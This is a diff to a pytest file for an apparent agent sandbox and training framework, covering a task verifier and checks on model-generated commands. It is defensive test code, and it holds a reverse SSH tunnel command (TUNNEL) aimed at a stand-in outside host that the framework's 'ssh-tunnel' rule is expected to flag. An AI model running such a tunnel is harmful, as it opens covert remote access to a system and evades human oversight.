@@ -8,6 +8,7 @@ import json
 import pytest
 
 from corral import RuntimeConfig
+from corral.agent.grading import isolated_command
 from corral.agent.tasks import Task
 from corral.envs import CorralTRLEnv
 from corral.errors import EnvironmentUsageError, EpisodeEnded, UnknownTask
@@ -16,7 +17,8 @@ from corral.sync import SyncRuntime
 
 TASK = Task.model_validate({
     "id": "calc", "instruction": "Write add(a, b) in /workspace/calc.py.",
-    "verifier": {"command": "python3 -c \"import calc; raise SystemExit(0 if calc.add(2, 3) == 5 else 1)\"",
+    "verifier": {"command": "python3 -c \"import sys; sys.path.append('/workspace'); import calc; "
+                            "raise SystemExit(0 if calc.add(2, 3) == 5 else 1)\"",
                  "score": "exit_code"}, "limits": {"max_steps": 4}})
 SOLUTION = "def add(a, b):\n    return a + b\n"
 TUNNEL = "ssh -N -R 2222:127.0.0.1:22 t@203.0.113.7"
@@ -202,7 +204,9 @@ def test_grpo_trainer_runs_generated_tool_calls_in_sandboxes(world, tmp_path, mo
         assert len(episodes) == 16  # a fresh sandbox for every rollout
         for episode in episodes:
             # the generated command reached the sandbox: it ran, or corral's pre-exec check refused it
-            commands = {e.command for e in rt.store.events(episode_id=episode, kind=EventKind.COMMAND)}
+            # (the verifier's own run, in the episode's grading sandbox, is not the model's)
+            commands = {e.command for e in rt.store.events(episode_id=episode, kind=EventKind.COMMAND)
+                        if e.command != isolated_command(TASK.verifier.command)}
             assert commands in ({SOLVE[0]["arguments"]["command"]}, {TUNNEL})
         assert {f.rule_id for f in rt.store.findings()} >= {"ssh-tunnel"}
         assert rt.async_runtime.sandboxes == {}  # each rollout's get_reward closed its sandbox
